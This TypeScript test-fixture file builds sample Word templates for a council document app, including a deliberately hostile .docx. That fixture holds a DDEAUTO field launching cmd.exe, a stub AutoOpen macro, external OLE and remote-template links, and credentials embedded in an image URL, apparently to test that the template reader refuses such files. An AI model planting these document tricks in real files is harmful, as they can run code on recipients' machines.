import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import {
  AlignmentType,
  Document,
  Footer,
  Header,
  ImageRun,
  Packer,
  PageNumber,
  PageOrientation,
  Paragraph,
  Table,
  TableCell,
  TableRow,
  TextRun,
} from 'docx'
import JSZip from 'jszip'
import { readTemplate } from '../../../electron/core/documents/template/read-template'
import type { WordTemplate } from '../../../shared/model/word-template'
import { defaultSettings } from '../../../shared/rules/workspace-settings'
import { aPng } from '../handlers/a-picture'

// Templates as councils have them, whole files of the programs that make them, and some that nobody should open.

export async function fromLibreOffice(): Promise<Uint8Array> {
  return readFile(join(import.meta.dirname, '../../fixtures/templates/libreoffice.docx'))
}

const image = (width: number, height: number, more: object = {}): ImageRun =>
  new ImageRun({ type: 'png', data: Buffer.from(aPng(240, 96)), transformation: { width, height }, ...more })

/** A logo in the header, odd and even pages, a first page of its own, a footer in three columns. */
export async function aLetterhead(): Promise<Uint8Array> {
  const column = (text: string): TableCell => new TableCell({ children: [new Paragraph(text)] })
  const logo = image(200, 80, { altText: { id: '1', name: 'Picture', description: 'Northfold Vale Council' } })
  const file = new Document({
    creator: 'Prudence Ashgrove',
    evenAndOddHeaderAndFooters: true,
    styles: {
      default: {
        document: { run: { font: 'Tahoma', size: 24 }, paragraph: { spacing: { after: 160, line: 264 } } },
        heading1: { run: { size: 40, bold: true, color: '14523F' } },
        heading2: { run: { size: 30, bold: true, color: '14523F', font: 'Verdana' } },
        heading3: { run: { size: 26, bold: true } },
        listParagraph: { paragraph: { spacing: { after: 60 } } },
      },
    },
    sections: [
      {
        properties: { titlePage: true, page: { margin: { top: 1700, right: 1500, bottom: 1500, left: 1800 } } },
        headers: {
          default: new Header({ children: [new Paragraph('Northfold Vale\tNeighbourhoods')] }),
          even: new Header({ children: [new Paragraph('Neighbourhoods')] }),
          first: new Header({ children: [new Paragraph({ children: [logo] })] }),
        },
        footers: {
          default: new Footer({
            children: [
              new Table({
                rows: [
                  new TableRow({
                    children: [column('County Hall'), column('Tel 01632 960001'), column('vale.example')],
                  }),
                ],
              }),
              new Paragraph({
                children: [new TextRun({ children: ['Page ', PageNumber.CURRENT, ' of ', PageNumber.TOTAL_PAGES] })],
              }),
            ],
          }),
          first: new Footer({ children: [new Paragraph('Northfold Vale Council, working with you')] }),
        },
        children: [],
      },
    ],
  })
  return Packer.pack(file, 'uint8array')
}

/** Everything the rules of papers forbid, in one file that is otherwise sound. */
export async function againstEveryRule(): Promise<Uint8Array> {
  const file = new Document({
    background: { color: 'FFF8DC' },
    styles: {
      default: {
        document: {
          run: { font: 'Times New Roman', size: 20, language: { value: 'en-US' } },
          paragraph: { alignment: AlignmentType.JUSTIFIED },
        },
        heading1: { run: { size: 22, allCaps: true, underline: {}, color: 'C9D6DF', italics: true } },
        heading2: { run: { size: 20, smallCaps: true } },
      },
    },
    sections: [
      {
        properties: {
          page: {
            size: { width: 12_240, height: 15_840, orientation: PageOrientation.LANDSCAPE },
            margin: { top: 700, right: 700, bottom: 4_000, left: 700 },
          },
        },
        headers: {
          default: new Header({
            children: [
              new Paragraph({
                alignment: AlignmentType.RIGHT,
                children: [
                  image(150, 60, {
                    floating: { horizontalPosition: { offset: 0 }, verticalPosition: { offset: 0 } },
                  }),
                  new TextRun({ text: 'Small', size: 14 }),
                ],
              }),
            ],
          }),
        },
        children: [new Paragraph('Words of a letter to somebody')],
      },
    ],
  })
  return Packer.pack(file, 'uint8array')
}

type Parts = Readonly<Record<string, string | Uint8Array | null>>
const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const main = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'

/** The letterhead with parts put in, changed or (null) taken out. */
export async function withParts(parts: Parts, base = fromLibreOffice): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await base())
  for (const [path, content] of Object.entries(parts)) {
    if (content === null) zip.remove(path)
    else zip.file(path, content)
  }
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' })
}

/** Macros, links out, objects, changes, comments, a watermark and a name, all in one. */
export async function hostile(): Promise<Uint8Array> {
  const zip = await JSZip.loadAsync(await fromLibreOffice())
  const read = async (path: string): Promise<string> => (await zip.file(path)?.async('string')) ?? ''
  const types = await read('[Content_Types].xml')
  const rels = await read('word/_rels/document.xml.rels')
  const settings = await read('word/settings.xml')
  const link = (id: string, type: string, target: string): string =>
    `<Relationship Id="${id}" Type="${office}/${type}" Target="${target}" TargetMode="External"/>`
  const header = `<w:hdr xmlns:w="${main}" xmlns:r="${office}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main">
    <w:p><w:r><w:pict><v:shape id="PowerPlusWaterMarkObject1"><v:textpath string="CONFIDENTIAL"/></v:shape></w:pict></w:r>
    <w:r><w:drawing><a:blip r:link="rId1"/></w:drawing></w:r>
    <w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\Windows\\\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>boom</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>
    <w:del w:author="Prudence Ashgrove"><w:r><w:delText>what was struck out</w:delText></w:r></w:del><w:ins w:author="Prudence Ashgrove"><w:r><w:t>Northfold</w:t></w:r></w:ins>
    <w:sdt><w:sdtPr><w:showingPlcHdr/></w:sdtPr><w:sdtContent><w:r><w:t>Click here to enter a date</w:t></w:r></w:sdtContent></w:sdt>
    <w:hyperlink r:id="rId2"><w:r><w:t> Vale &lt;script&gt;</w:t></w:r></w:hyperlink></w:p></w:hdr>`
  const parts: Parts = {
    '[Content_Types].xml': types
      .replace(/wordprocessingml\.document\.main\+xml/, 'wordprocessingml.template.main+xml')
      .replace('</Types>', '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'),
    'word/vbaProject.bin': 'Sub AutoOpen()',
    'word/embeddings/oleObject1.bin': 'an object',
    'word/activeX/activeX1.xml': '<x/>',
    'word/comments.xml': '<x/>',
    'customXml/item1.xml': '<secret>Prudence</secret>',
    'word/header1.xml': header,
    'word/_rels/header1.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${link('rId1', 'image', 'https://name:pass@pictures.example/logo.png?key=1')}${link('rId2', 'hyperlink', 'https://vale.example/')}</Relationships>`,
    'word/_rels/document.xml.rels': rels.replace(
      '</Relationships>',
      `${link('rId90', 'attachedTemplate', 'file://server/share/Vale.dotm')}${link('rId91', 'oleObject', 'https://bad.example/x')}</Relationships>`,
    ),
    'word/settings.xml': settings.replace(
      '</w:settings>',
      '<w:documentProtection w:edit="forms" w:enforcement="1"/></w:settings>',
    ),
  }
  for (const [path, content] of Object.entries(parts)) if (content !== null) zip.file(path, content)
  return zip.generateAsync({ type: 'uint8array', compression: 'DEFLATE' })
}

export async function templateFrom(bytes: Uint8Array, name = 'vale.dotx'): Promise<WordTemplate> {
  const settings = { ...defaultSettings, bodyName: 'Northfold Vale Council' }
  const read = await readTemplate({ name, bytes, settings, hasLogo: true })
  if (!read.ok) throw new Error(`refused: ${read.problem.code}`)
  return read.value.template
}
